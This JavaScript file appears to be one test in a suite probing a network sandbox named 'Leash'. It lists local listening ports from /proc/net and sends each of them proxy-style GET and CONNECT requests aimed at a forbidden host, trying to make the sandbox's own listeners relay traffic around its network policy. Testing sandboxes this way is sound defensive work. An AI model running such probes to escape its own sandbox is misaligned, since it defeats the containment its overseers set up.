// technique: dials Leash's own listeners in the sandbox, so that it takes them for the destination, and asks them for another host
// source: reference study 4.3 #26 and #29
// success: a server was reached, or Leash's listener answered
// control: none: without Leash there are no such listeners
// policy: network
// beside: origins
import { readFileSync } from 'node:fs';
import { FORBIDDEN, get, PRIVATE, say, TOKEN } from './wire.mjs';

const ports = new Set(
  ['tcp', 'tcp6']
    .flatMap((name) => readFileSync(`/proc/net/${name}`, 'utf8').split('\n').slice(1))
    .map((line) => Number.parseInt(/:([0-9A-F]{4}) /.exec(line)?.[1] ?? '0', 16))
    .filter((port) => port > 0),
);
for (const port of ports) {
  await say(`127.0.0.1:${port}`, [get(PRIVATE)]);
  await say(`127.0.0.1:${port}`, [get(`http://${FORBIDDEN}/public/${TOKEN}`, FORBIDDEN)]);
  await say(`127.0.0.1:${port}`, [
    `CONNECT ${FORBIDDEN}:80 HTTP/1.1\r\nHost: ${FORBIDDEN}:80\r\n\r\n`,
    get(`/public/${TOKEN}`, FORBIDDEN),
  ]);
  await say(`10.255.255.1:${port}`, [get(`/public/${TOKEN}`, FORBIDDEN)]);
}
